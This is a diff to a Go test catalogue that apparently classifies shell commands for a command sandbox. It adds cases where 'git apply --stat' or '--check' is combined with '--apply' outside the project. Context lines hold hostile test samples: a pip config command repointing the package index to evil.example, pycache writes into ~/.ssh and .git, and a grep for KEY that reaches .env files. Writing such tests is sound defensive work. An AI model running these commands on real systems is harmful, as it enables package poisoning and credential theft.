@@ -24,6 +24,7 @@ func interpCatalogue() []classCase {
 		pyCache  = "python's compiled-module directory"
 		exact    = "a long option that is a prefix of another"
 		search   = "a search tool's option value"
+		report   = "an option that only reports, undone"
 		setIndex = " -m pip config set global.index-url https://evil.example/simple"
 	)
 	pytest := sh(`python -m pytest tests`)
@@ -89,6 +90,9 @@ func interpCatalogue() []classCase {
 		{pyCache, "python -Xpycache_prefix=~/.ssh", sh(`python -Xpycache_prefix=~/.ssh -m pytest tests`), zeroD, sh(`python -X importtime -m pytest tests`), false},
 		{pyCache, "PYTHONPYCACHEPREFIX=.git python", sh(`PYTHONPYCACHEPREFIX=.git python -m pytest tests`), noWriteD, sh(`PYTHONPYCACHEPREFIX=build/pycache python -m pytest tests`), false},
 		{pyCache, "PYTHONPYCACHEPREFIX exported", sh(`export PYTHONPYCACHEPREFIX=~/.ssh; python -m pytest tests`), zeroD, sh(`export PYTHONDONTWRITEBYTECODE=1; python -m pytest tests`), false},
+		// git apply --stat (--check, --numstat) only reports, but with --apply it applies too.
+		{report, "git apply --stat --apply outside the project", sh(`cd ~ && git apply --stat --apply x.diff`), dynWrite, sh(`cd ~ && git apply --stat x.diff`), false},
+		{report, "git apply --check --ap outside the project", sh(`cd ~ && git apply --check --ap x.diff`), dynWrite, sh(`cd ~ && git apply --check x.diff`), false},
 		// A search tool's option with its value apart: the value is neither the pattern nor a
 		// path, so without a path the tool searches the working directory (its .env).
 		{search, "grep -r -e KEY", sh(`grep -r -e KEY`), contains, sh(`grep -rn -e TODO -e FIXME src`), false},
